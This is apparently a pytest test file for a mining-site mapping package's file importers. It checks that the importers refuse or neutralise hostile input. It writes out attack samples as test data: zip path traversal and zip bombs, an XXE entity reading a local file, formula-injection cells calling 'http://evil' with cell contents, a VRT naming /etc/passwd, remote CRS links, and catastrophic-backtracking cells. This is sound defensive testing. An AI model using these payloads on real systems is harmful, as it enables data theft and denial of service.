"""Files that mean harm, or are only broken: a clear word, and nothing else."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import subprocess
import sys
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from crmmap import Filters, load
from crmmap.atlas.licences import give
from crmmap.describe.sheets import Sheet
from crmmap.exchange.folders import write_folder
from crmmap.exchange.readers import ImportOptions, limits, merge, read, spatial
from crmmap.exchange.readers.import_report import as_csv
from crmmap.exchange.readers.raw_tables import SUFFIXES, Opening, read_raw
from crmmap.exchange.writers import select, write
from crmmap.toml_models import UnusableFile
from tests.exchange import samples
from tests.server import Listener

pytestmark = pytest.mark.slow

CSV = b"name,lat,lon,commodity\nA,-12.5,28.2,copper\n"


def refused(path, match: str, whole) -> None:
    with pytest.raises(UnusableFile, match=match) as fault:
        read(path, whole)
    assert path.name in str(fault.value)


def archive(path, members: dict[str, bytes]):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return path


def test_archives(whole, tmp_path):
    path = tmp_path / "a.zip"
    refused(archive(path, {"../../evil.csv": CSV}), "names a path outside of itself", whole)
    refused(archive(path, {"/etc/evil.csv": CSV}), "names a path outside of itself", whole)
    refused(archive(path, {"C:\\evil.csv": CSV}), "names a path outside of itself", whole)
    refused(archive(path, {"readme.txt": b"x"}), "holds no table", whole)
    refused(
        archive(path, {"a.csv": CSV, "b.csv": CSV}), "holds 2 tables .*bring one at a time", whole
    )
    refused(
        archive(path, {"bomb.csv": b"a,b\n" + b"0" * 80_000_000}),
        "unpacks to over 200 times its size",
        whole,
    )
    refused(
        archive(path, {f"{i}.csv": b"" for i in range(201)}),
        "holds 201 files, 200 is the most",
        whole,
    )
    refused(archive(path, {"inner.zip": b"x"}), "inner.zip: the archive can't be opened", whole)
    matryoshka = archive(
        tmp_path / "b.zip", {"c.zip": archive(path, {"a.csv": CSV}).read_bytes()}
    ).read_bytes()
    refused(archive(path, {"deep.zip": matryoshka}), "deep.zip: the archive holds no table", whole)
    path.write_bytes(b"PK\x03\x04 not really")
    refused(path, "can't be opened", whole)
    assert not (tmp_path.parent / "evil.csv").exists()
    assert read(archive(path, {"folder/a.csv": CSV}), whole).totals["read"] == 1


def test_an_archive_that_lies_about_its_size(whole, tmp_path):
    path = archive(tmp_path / "a.zip", {"bomb.csv": b"a,b\n" + b"0" * 80_000_000})
    content = bytearray(path.read_bytes())
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 100)  # the size unpacked, in the directory
    path.write_bytes(content)
    refused(path, "can't be unpacked|unpacks to over", whole)


def test_workbooks(whole, tmp_path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"PK\x03\x04")
    refused(path, "can't be opened|no xlsx workbook", whole)
    secret = tmp_path / "secret.txt"
    secret.write_text("for nobody else")
    entity = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}"><!ENTITY a "aaaaaaaaaa">]>'.encode()
    )
    good = zipfile.ZipFile(samples.ga(tmp_path))
    members = {name: good.read(name) for name in good.namelist()}
    shared = members["xl/sharedStrings.xml"]
    members["xl/sharedStrings.xml"] = shared.replace(b"?>", b"?>" + entity, 1).replace(
        b"Test Nickel", b"&e;&a;&a;"
    )
    try:
        found = read(archive(path, members), whole).report.to_csv()
    except UnusableFile:
        found = ""
    assert "aaaaaaaaaaaaaaaaaaaa" not in found
    assert "for nobody else" not in found


def test_formulas_are_text_and_stay_text(whole, tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(
        'name,lat,lon,commodity\n"=HYPERLINK(""http://x"")",-82.1,10.5,copper\n@SUM(A1),-82.2,10.5,tin\n'
    )
    names = read(path, whole).tables["sites"]["name"].tolist()
    assert names == ['=HYPERLINK("http://x")', "@SUM(A1)"]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_empty_and_wrong_files(whole, tmp_path, suffix):
    path = tmp_path / f"a{suffix}"
    path.write_bytes(b"")
    refused(path, "the file is empty", whole)
    path.write_bytes(b"\x00\x01\x02" * 50)
    refused(path, "can't be|this is no|is not|no readable|no column", whole)


def test_other_faults(whole, tmp_path):
    bad = tmp_path / "a.exe"
    bad.write_bytes(b"MZ")
    refused(bad, "files .exe can't be read; bring one of .csv", whole)
    gpkg = tmp_path / "a.gpkg"
    gpkg.write_bytes(
        b"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/etc/passwd</SrcDataSource>"
    )
    refused(gpkg, "this is no .gpkg file", whole)
    deep = tmp_path / "a.json"
    deep.write_text("[" * 100_000)
    refused(deep, "this is not JSON", whole)
    header = tmp_path / "a.csv"
    header.write_text("name,lat,lon,commodity\n")
    refused(header, "a header and no rows", whole)
    none = tmp_path / "a.geojson"
    none.write_text('{"type": "FeatureCollection", "features": []}')
    refused(none, "has no features", whole)


@pytest.fixture
def listener():
    made = Listener(b"EPSG:4326")
    yield made
    made.close()


def geojson(head: str) -> str:
    point = (
        '{"type": "Feature", "properties": {"name": "A"}, "geometry": {"type": "Point", '
        '"coordinates": [28, -12]}}'
    )
    return '{"type": "FeatureCollection", ' + head + '"features": [' + point + "]}"


@pytest.mark.parametrize("kind", ["link", "url", "LINK", "OGC"])
def test_a_file_makes_the_machine_ask_no_other(whole, tmp_path, listener, kind):
    path = tmp_path / "a.geojson"
    crs = (
        f'"crs": {{"type": "{kind}", "properties": {{"href": "{listener.url}/x", "url": '
        f'"{listener.url}/y"}}}}, '
    )
    path.write_text(geojson(crs))
    refused(
        path,
        "the address of another file or computer, which is never asked; save it in WGS 84",
        whole,
    )
    path.write_text(geojson('"crs": null, ' + crs.replace(": ", ":")))
    refused(path, "names a key twice", whole)
    assert listener.asked == []


def test_gdal_itself_reaches_nobody(tmp_path, listener):
    """Should a file get past the look at its first level."""
    path = tmp_path / "a.geojson"
    path.write_text(
        geojson(f'"crs": {{"type": "link", "properties": {{"href": "{listener.url}/x"}}}}, ')
    )
    code = (
        "import sys; from pathlib import Path; from crmmap.exchange.readers import spatial\n"
        "spatial._check_json = lambda *_: None\n"
        "spatial.read_spatial(Path(sys.argv[1]), 'a.geojson')\n"
    )
    subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, timeout=120, check=False
    )
    assert listener.asked == []


def test_named_reference_systems_are_read(tmp_path):
    path = tmp_path / "a.geojson"
    path.write_text(
        geojson(
            '"crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}, '
        )
    )
    assert read_raw(path).geometry.iloc[0].x == 28


CONTROLS = [
    "A\rB",
    "A\r\nB",
    "A\nB",
    "A\u2028B",
    "A\u2029B",
    "A\u0085B",
    "A\x1b[31mB",
    "A\x00B",
    "A\tB",
]


@pytest.mark.parametrize("name", CONTROLS)
def test_control_characters_become_blanks_and_the_folder_can_be_read_again(whole, tmp_path, name):
    path = tmp_path / "a.json"
    path.write_text(
        json.dumps([{"name": name + "\r=1+1", "lat": -82.1, "lon": 10.5, "commodity": "tin"}])
    )
    imported = read(path, whole)
    said = imported.tables["sites"]["name"].iloc[0]
    assert re.fullmatch(r"A [^\x00-\x1f\u2028]*B =1\+1", said)
    write_folder(merge(whole, imported), tmp_path / "data")
    assert said in set(load(tmp_path / "data").sites["name"])


def test_half_a_character_does_not_stop_the_saving(whole, tmp_path):
    path = tmp_path / "a.json"
    path.write_text('[{"name": "A\\ud800B", "lat": -82.1, "lon": 10.5, "commodity": "tin"}]')
    imported = read(path, whole)
    assert imported.tables["sites"]["name"].tolist() == ["A B"]
    assert as_csv(imported.report)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "x\r=", "＝", "＋"])
def test_no_csv_hands_a_formula_to_a_spreadsheet(whole, tmp_path, begin):
    path = tmp_path / "a.json"
    evil = f'{begin}HYPERLINK("http://evil/?"&A1,"x")'
    path.write_text(
        json.dumps([{"name": evil, "lat": -82.1, "lon": 10.5, "commodity": "tin", "owner": evil}])
    )
    imported = read(path, whole)
    after = merge(whole, imported)
    new = after.sites[after.sites["owner"] != ""].tail(1)
    texts = [as_csv(imported.report), Sheet("", new.drop(columns="geometry"), "").to_csv()]
    texts.append(write(select(give(after), Filters()).only("sites"), "csv")[0])
    for text in texts:
        cells = [
            cell
            for row in csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""))
            for cell in row
        ]
        assert [cell for cell in cells if "evil" in cell]
        assert not [
            cell
            for cell in cells
            if cell.lstrip("\t\r\n ")[:1] in set("=+@＝＋") and "evil" in cell
        ]
        assert b"\r" not in text


def test_cells_made_to_hold_up_the_reading_are_refused(tmp_path):
    """Each of these took minutes to hours; the process that reads them here has one."""
    rows = [
        {"name": "pair", "position": "1,2" + " " * 30_000 + "x", "commodity": "tin"},
        {
            "name": "degrees",
            "lat": "1" + " " * 30_000 + "x",
            "lon": "2" + " " * 30_000,
            "commodity": "tin",
        },
        {
            "name": "brackets",
            "lat": "-82",
            "lon": "10",
            "country": "(" * 31_000,
            "commodity": "tin",
        },
        {
            "name": "digits",
            "lat": "-82",
            "lon": "11",
            "country": "1" * 31_000 + "x",
            "commodity": "(" * 31_000,
        },
        {"name": "wells", "lat": "-82", "lon": "12", "kind": "well " * 6_000, "commodity": "tin"},
    ]
    path = tmp_path / "slow.json"
    path.write_text(json.dumps([{**row, "n": place} for row in rows for place in range(40)]))
    code = (
        "import sys, crmmap; from crmmap.exchange.readers import ImportOptions, read\n"
        "mapping = {name: name for name in ('name', 'country', 'kind', 'position')}\n"
        "mapping |= {'latitude': 'lat', 'longitude': 'lon', 'commodities': 'commodity'}\n"
        "options = ImportOptions(columns=mapping, table='sites')\n"
        "print(read(sys.argv[1], crmmap.load(), options).totals)\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60
    )
    assert "'read': 200" in run.stdout, run.stderr[-2000:]


def test_rows_and_vertices_are_bounded(whole, tmp_path, monkeypatch):
    path = tmp_path / "a.csv"
    path.write_bytes(CSV + b"B,-12.6,28.2,tin\n")
    monkeypatch.setattr(limits, "MOST_ROWS", 1)
    refused(path, "the table has 2 rows, 1 is the most", whole)
    monkeypatch.undo()
    monkeypatch.setattr(limits, "MOST_BYTES", 20)
    refused(path, "the file has 0 MB, 0 MB is the most; split it", whole)
    monkeypatch.undo()
    monkeypatch.setattr(limits, "MOST_COLUMNS", 3)
    refused(path, "the table has 4 columns, 3 is the most", whole)
    monkeypatch.undo()
    monkeypatch.setattr(spatial, "MOST_VERTICES", 4)
    refused(
        samples.kba(tmp_path), "the shapes have 5 vertices, 4 is the most; simplify them", whole
    )


def test_rows_keep_their_numbers_and_lose_no_cell(whole, tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(
        "\n\nname,lat,lon,commodity\nA,-82.1,10.5,tin\n\nB,-82.2,10.5,tin,\nC,-82.3,10.5,tin,beyond\n"
    )
    report = read(path, whole).report
    assert report["row"].tolist() == [4, 5, 6, 7]
    assert report["fate"].tolist() == ["taken", "refused", "taken", "refused"]
    assert report["reason"][1] == "the row is empty"
    assert report["reason"][3] == "the row has 5 cells, the header 4"


def test_encodings_and_broken_shapes_are_said(whole, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes("name,lat,lon,commodity\nGrängesberg,-82.1,10.5,copper\n".encode("cp1252"))
    imported = read(path, whole)
    assert imported.tables["sites"].iloc[0]["name"] == "Grängesberg"
    assert imported.notes == ("the text is not UTF-8; read as Windows-1252 (Western Europe)",)
    path.write_bytes("name,lat,lon,commodity\nGrängesberg,-82.1,10.5,copper\n".encode("utf-16"))
    assert read(path, whole).tables["sites"].iloc[0]["name"] == "Grängesberg"
    shapes = tmp_path / "a.geojson"
    line = {"type": "LineString", "coordinates": [[1, 1], [2, 2]]}
    features = [
        {"type": "Feature", "properties": {"name": str(i)}, "geometry": g}
        for i, g in enumerate((line, None))
    ]
    features.append(
        {
            "type": "Feature",
            "properties": {"name": "2"},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[30, 0], [31, 1], [31, 0], [30, 1], [30, 0]]],
            },
        }
    )
    shapes.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    report = read(shapes, whole, ImportOptions(layout="zones")).report
    assert report["reason"].tolist()[:2] == ["its geometry encloses no area", "it has no geometry"]
    assert "made valid" in report["changed"].iloc[2]


GARBAGE = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@GARBAGE
@given(suffix=some.sampled_from(SUFFIXES), content=some.binary(min_size=1, max_size=600))
def test_garbage_gives_a_clear_error_or_a_table(whole, tmp_path, suffix, content):
    path = tmp_path / f"garbage{suffix}"
    path.write_bytes(content)
    try:
        totals = read(path, whole).totals
        assert totals["read"] == totals["taken"] + totals["merged"] + totals["refused"]
    except UnusableFile as fault:
        assert fault.faults


CELLS = some.text(alphabet=some.characters(codec="utf-8"), max_size=25)


@GARBAGE
@given(rows=some.lists(some.tuples(CELLS, CELLS, CELLS, CELLS, CELLS), min_size=1, max_size=6))
def test_garbage_in_cells_gives_each_row_its_fate(whole, tmp_path, rows):
    path = tmp_path / "cells.json"
    keys = ("name", "lat", "lon", "commodity", "country")
    path.write_text(json.dumps([dict(zip(keys, row, strict=True)) for row in rows]))
    columns = {
        "name": "name",
        "latitude": "lat",
        "longitude": "lon",
        "commodities": "commodity",
        "country": "country",
    }
    imported = read(path, whole, ImportOptions(columns=columns, table="sites"))
    assert len(imported.report) == len(rows)
    assert set(imported.report["fate"]) <= {"taken", "merged", "refused"}


@pytest.fixture(scope="module")
def originals(tmp_path_factory):
    folder = tmp_path_factory.mktemp("originals")
    made = (samples.icmm, samples.kba, samples.facilities_shapefile, samples.mrds)
    return {path.suffix: path.read_bytes() for path in (sample(folder) for sample in made)}


@GARBAGE
@given(
    suffix=some.sampled_from([".xlsx", ".gpkg", ".zip", ".csv"]),
    damage=some.lists(
        some.tuples(some.floats(0, 1, exclude_max=True), some.integers(0, 255)),
        min_size=1,
        max_size=8,
    ),
)
def test_a_damaged_original_gives_a_clear_error_or_a_table(originals, tmp_path, suffix, damage):
    content = bytearray(originals[suffix])
    for where, byte in damage:
        content[int(where * len(content))] = byte
    path = tmp_path / f"damaged{suffix}"
    path.write_bytes(content)
    try:
        read_raw(path, opening=Opening(sheet="External"))
    except UnusableFile as fault:
        assert fault.faults


def test_atheris_feeds_the_readers(tmp_path):
    """A coverage-guided fuzzer for a bounded time; it ends with an error if a reader raises
    anything else."""
    pytest.importorskip(
        "atheris", reason="atheris has no wheel for this Python: pip install atheris"
    )
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for sample in (samples.icmm, samples.mrds, samples.nrcan, samples.facilities_geojson):
        made = sample(tmp_path)
        (corpus / made.name).write_bytes(bytes([SUFFIXES.index(made.suffix)]) + made.read_bytes())
    command = [
        sys.executable,
        "tests/exchange/fuzz_readers.py",
        "-max_total_time=20",
        "-max_len=20000",
    ]
    command += [f"-artifact_prefix={tmp_path}/", str(corpus)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, (run.stdout + run.stderr)[-3000:]
    assert "Done" in run.stderr
